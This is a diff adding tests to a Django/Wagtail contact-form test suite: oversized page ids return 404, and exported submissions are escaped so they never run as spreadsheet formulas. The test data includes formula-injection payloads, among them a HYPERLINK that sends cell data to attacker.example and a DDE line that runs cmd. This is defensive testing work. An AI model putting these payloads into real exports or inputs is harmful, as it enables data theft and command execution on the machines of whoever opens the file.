@@ -1,5 +1,6 @@
 """Contact us: a form editors define; every valid message is kept, spam is not."""
 
+import csv
 import io
 import time
 from smtplib import SMTPException
@@ -16,7 +17,7 @@ from wagtail.contrib.forms.models import FormSubmission
 from home.factories import ContactPageFactory
 from home.models import CONTACT_RATE_LIMIT
 from reader_input.antispam import HONEYPOT_FIELD, MAX_TOKEN_AGE, TOKEN_FIELD, make_token
-from tests.reader_forms import edition_url, send_contact_message
+from tests.reader_forms import ORIGIN, edition_url, send_contact_message
 
 
 @pytest.fixture
@@ -318,6 +319,17 @@ def test_a_retry_after_a_failed_email_is_not_stored_twice(client, mailed_contact
     assert FormSubmission.objects.count() == 1
 
 
+@pytest.mark.django_db
+@pytest.mark.parametrize("page_id", ["9" * 19, "9" * 30])
+def test_an_id_too_large_for_any_table_is_a_404_not_a_server_error(client, contact_page, page_id):
+    """SQLite cannot be asked about a number over 2**63 - 1 (OverflowError, a 500): such
+    an address is no page's, and is refused before any query."""
+    client.raise_request_exception = False
+    response = client.post(f"/en/contact/{page_id}/send/", valid_message(), HTTP_ORIGIN=ORIGIN)
+    assert response.status_code == 404
+    assert not FormSubmission.objects.exists()
+
+
 # --- Staff: export and permissions ------------------------------------------------------------
 
 
@@ -341,6 +353,37 @@ def test_staff_can_export_submissions_as_csv_and_xlsx(admin_client, client, cont
     workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
     values = [cell for row in workbook.active.iter_rows(values_only=True) for cell in row]
     assert "Tungjatjeta" in values
+
+
+FORMULAS = [
+    '=HYPERLINK("https://attacker.example/?d="&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+]
+
+
+@pytest.mark.django_db
+def test_exported_submissions_never_run_as_formulas(admin_client, client, contact_page):
+    """A reader's text starting with = + - or @ is exported with a leading quote, so a
+    spreadsheet shows it as text instead of running it (tabs and carriage returns, which the
+    form strips here, are covered by the comments' export)."""
+    for formula in FORMULAS + ["Plain words - 2 + 2"]:
+        cache.clear()  # not the rate limit under test
+        send_contact_message(client, contact_page, valid_message(name="Eve", message=formula))
+    expected = sorted(["'" + formula for formula in FORMULAS] + ["Plain words - 2 + 2"])
+    url = f"/admin/forms/submissions/{contact_page.pk}/"
+
+    response = admin_client.get(url, {"export": "csv"})
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert rows[0][-1] == "Message"
+    assert sorted(row[-1] for row in rows[1:]) == expected
+
+    response = admin_client.get(url, {"export": "xlsx"})
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    cells = [row[-1] for row in sheet.iter_rows(min_row=2)]
+    assert sorted(cell.value for cell in cells) == expected
+    assert {cell.data_type for cell in cells} == {"s"}
 
 
 @pytest.mark.django_db
